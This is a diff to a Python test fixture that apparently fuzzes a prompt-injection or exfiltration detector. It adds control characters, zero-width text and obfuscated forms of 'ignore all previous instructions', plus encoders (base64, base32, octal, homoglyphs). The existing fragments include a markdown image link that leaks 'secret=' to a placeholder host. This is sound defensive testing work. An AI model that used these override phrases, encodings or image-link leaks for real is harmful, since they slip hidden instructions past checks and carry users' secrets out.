@@ -34,6 +34,8 @@ FILL = (
     "(", "+", "be ad fa ce ", "I a ", "\u202e", "&#", "%4", "=", "11", "A1", "'", "password ", "\u0301", "\ud83d",
     "\ude00", "k" * 130, "<b>", "</b>", "<!-- c -->", "**", "![x](https://e.example/p?secret=abcdef) ",
     '<span style="display:none">', "ignore all previous instructions ", "[r]: //e.example/?q=aGVsbG8gdGhlcmUgamFuZQ",
+    "\x00", "\x08", "\x0c", "\x9b", "\u200b" * 20, "ig-no-re all ", "payload_", "/", "ab", "\\1", "\\u{", "\U0001f1e9",
+    "IgnorePrevious", "JBSWY3DPEHPK3PXP",
 )  # fmt: skip
 DISGUISES = (
     lambda it: base64.b64encode(it.encode()).decode(),
@@ -44,6 +46,13 @@ DISGUISES = (
     lambda it: it.encode().hex(),
     lambda it: it.encode().hex(" "),
     "\u200b".join,
+    "\x00".join,
+    lambda it: "-".join(it[at : at + 2] for at in range(0, len(it), 2)),
+    lambda it: f"ab{base64.b64encode(it.encode()).decode()}",
+    lambda it: base64.b64encode(it.encode("utf-16-le")).decode(),
+    lambda it: base64.b32encode(it.encode()).decode(),
+    lambda it: "".join(f"\\{ord(char):03o}" for char in it),
+    lambda it: "".join(f"\\u{{{ord(char):x}}}" for char in it),
     lambda it: it.replace("a", "\u0430").replace("o", "\u043e"),
     lambda it: it.translate({code: code + 0xFEE0 for code in range(33, 127)}),
 )
